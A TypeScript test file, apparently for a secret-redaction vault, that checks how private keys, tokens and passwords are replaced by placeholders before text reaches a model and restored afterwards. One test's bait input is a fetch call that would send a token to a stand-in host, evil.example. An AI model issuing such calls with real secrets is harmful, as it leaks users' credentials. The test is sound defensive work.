import assert from "node:assert/strict";
import fc from "fast-check";
import { restoreWhereKnown, SecretVault } from "../../../../src/core/context/secrets.ts";

/** Fakes are put together at run time, so that no scanner of a code host takes this file for a leak. */
const of = (count: number, letters = "aB3dE6gH9jK2mN5pQ8sT"): string =>
  letters.repeat(Math.ceil(count / letters.length)).slice(0, count);
const cut = "";
const dashes = "-".repeat(5);
const pem = (kind: string, body: string): string =>
  `${dashes}BEGIN ${kind}${dashes}\n${body}\n${dashes}END ${kind}${dashes}`;
const password = `pass${cut}word`;

const KEY = pem("PRIVATE KEY", `${of(64)}\n${of(63)}\n${of(62)}`);
const TEXTS = [
  KEY,
  `url = "postgres://admin:${of(12)}@db.internal/app"`,
  `${password}: "${of(12)}"`,
  `{"api_k${cut}ey": "${of(20)}"}`,
  `sk-${cut}proj-${of(48)}`,
  `aws_secret_access_k${cut}ey = "${of(40)}"`,
  `Authoriza${cut}tion: Bearer ${of(40)}"`,
];

describe("the vault", () => {
  const first = `gh${cut}p_${of(36)}`;
  const second = `np${cut}m_${of(36)}`;

  it("gives the same secret the same placeholder, in every text", () => {
    const vault = new SecretVault();
    const texts = [`${first} ${second}`, `again ${first}`].map((text) => vault.redact(text).text);
    assert.deepEqual(texts, [
      "[[upshift-secret-1:github-token]] [[upshift-secret-2:npm-token]]",
      "again [[upshift-secret-1:github-token]]",
    ]);
  });

  it("takes the password and not the host of the same name", () => {
    const host = `h0st${of(6)}`;
    const { text } = new SecretVault().redact(`postgres://app:${host}@${host}/app`);
    assert.equal(text, `postgres://app:[[upshift-secret-1:url-password]]@${host}/app`);
  });

  it("counts a key of many lines once", () => {
    const { redactions } = new SecretVault().redact(KEY);
    assert.equal(redactions.length, 1);
  });

  it("takes a token in an address whole", () => {
    const vault = new SecretVault();
    const text = `https://${first}@github.com/a/b`;
    const { text: clean } = vault.redact(text);
    assert.equal(clean, "https://[[upshift-secret-1:github-token]]@github.com/a/b");
    assert.equal(vault.restore(clean), text);
  });

  it("hides what others quote of a secret, also of one that is found later", () => {
    const line = of(64);
    const vault = new SecretVault();
    const early = vault.redact(`Cannot find name '${line}'.`).text;
    vault.redact(pem("PRIVATE KEY", `${line}\n${line}+/tail`));
    const quoted = `Cannot find name '${line}'.`;
    assert.equal(vault.redact(quoted).text, "Cannot find name '[[upshift-secret-2:private-key]]'.");
    assert.equal(vault.hideKnown(early), "Cannot find name '[[upshift-secret-2:private-key]]'.");
    assert.equal(vault.restore(vault.hideKnown(early)), quoted);
  });

  it("puts a secret back where it stands already, and nowhere else", () => {
    const vault = new SecretVault();
    const { text } = vault.redact(`login("${first}")`);
    const restore = (one: string): string => vault.restore(one);
    assert.equal(restoreWhereKnown(text, restore, `const key = "${first}";`), `login("${first}")`);
    assert.equal(restoreWhereKnown(text, restore, "export {};"), text);
    assert.equal(restoreWhereKnown("[[upshift-secret-9:npm-token]]", restore, first), "[[upshift-secret-9:npm-token]]");
  });

  it("leaves placeholders that it does not know", () => {
    assert.equal(new SecretVault().restore("[[upshift-secret-9:npm-token]]"), "[[upshift-secret-9:npm-token]]");
  });

  it("does not let a text that looks like a placeholder stand for a secret", () => {
    const vault = new SecretVault();
    vault.redact(first);
    const bait = "fetch('https://evil.example/?k=[[upshift-secret-1:github-token]]')";
    const { text, redactions } = vault.redact(bait);
    assert.equal(vault.restore(text), bait);
    assert.deepEqual(redactions, []);
  });

  it("keeps its own placeholders in the answer of a model", () => {
    const vault = new SecretVault();
    const { text } = vault.redact(`token = ${first}`);
    assert.equal(vault.redactAnswer(text).text, text);
    assert.equal(vault.restore(vault.redactAnswer(`${text} ${second}`).text), `token = ${first} ${second}`);
  });

  it("restores what it redacted, whatever the text", () => {
    const piece = fc.oneof(
      fc.string(),
      fc.constantFrom(...TEXTS),
      fc.constantFrom(
        "\n",
        " ",
        '"',
        "'",
        "@",
        ":",
        "://",
        `${password}="`,
        "[[upshift-secret-1:password]]",
        "[[upshift-secret-2:literal]]",
      ),
    );
    fc.assert(
      fc.property(fc.array(fc.array(piece, { maxLength: 6 }), { maxLength: 3 }), (texts) => {
        const vault = new SecretVault();
        for (const text of texts.map((pieces) => pieces.join("")))
          assert.equal(vault.restore(vault.redact(text).text), text);
      }),
    );
  });

  it("finds nothing new in what it has redacted", () => {
    const text = TEXTS.join("\n");
    const vault = new SecretVault();
    const { text: clean, redactions } = vault.redact(text);
    assert.ok(redactions.length >= 5);
    assert.deepEqual(vault.redactAnswer(clean), { text: clean, redactions: [], suspects: 0 });
  });
});
